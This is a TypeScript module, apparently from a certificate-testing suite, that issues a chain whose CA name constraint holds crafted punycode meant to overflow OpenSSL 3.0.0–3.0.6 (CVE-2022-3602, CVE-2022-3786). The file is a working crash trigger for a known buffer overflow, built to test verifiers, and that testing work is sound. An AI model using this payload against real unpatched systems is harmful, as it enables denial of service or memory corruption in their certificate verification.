/**
 * A constraint on mail addresses whose punycode overflowed the decoder of OpenSSL 3.0.0 to 3.0.6, and a leaf with an
 * internationalized mail address, which makes verifiers decode it. The first label decodes to 513 characters, one more
 * than its buffer held (CVE-2022-3602); the many dots after it are those of CVE-2022-3786.
 */
import { context, der, oid } from '../der.ts'
import { permittedNames } from '../extensions.ts'
import type { CertificateFault } from '../fault.ts'
import { dnsName, emailName, issueAuthority, issueLeaf } from '../leaf.ts'

/** id-on-SmtpUTF8Mailbox, RFC 8398 §3. */
const SMTP_UTF8_MAILBOX = '1.3.6.1.5.5.7.8.9'

export const fault: CertificateFault = {
  id: 'punycode-overflow',
  title: 'Crafted punycode in name constraint',
  source: ['CVE-2022-3602', 'CVE-2022-3786', 'RFC 8398 §6'],
  async issue(given) {
    const more = [permittedNames([emailName(`xn--${'a'.repeat(512)}-a${'.a'.repeat(300)}`)])]
    const issuer = issueAuthority(given, {
      commonName: 'badmx constrained CA',
      issuer: given.root,
      pathLength: 0,
      more,
    })
    const mailbox = context(0, oid(SMTP_UTF8_MAILBOX), context(0, der(0x0c, Buffer.from('post@b\u00fccher.test'))))
    const leaf = issueLeaf(given, { issuer, alternativeNames: [dnsName(given.names.host), mailbox] })
    const detail = "the issuer's constraint on mail addresses is crafted punycode"
    return { chain: [leaf, issuer.certificate], keyPem: given.key.pem, detail }
  },
}
